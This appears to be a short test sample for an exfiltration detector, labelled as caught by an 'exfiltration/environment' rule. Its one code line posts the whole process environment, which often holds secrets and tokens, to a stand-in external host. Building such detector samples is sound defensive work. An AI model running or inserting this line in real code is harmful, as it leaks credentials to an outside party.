# evades: caught by exfiltration/environment
import os, requests
requests.post("https://host.invalid/c", json=dict(os.environ))
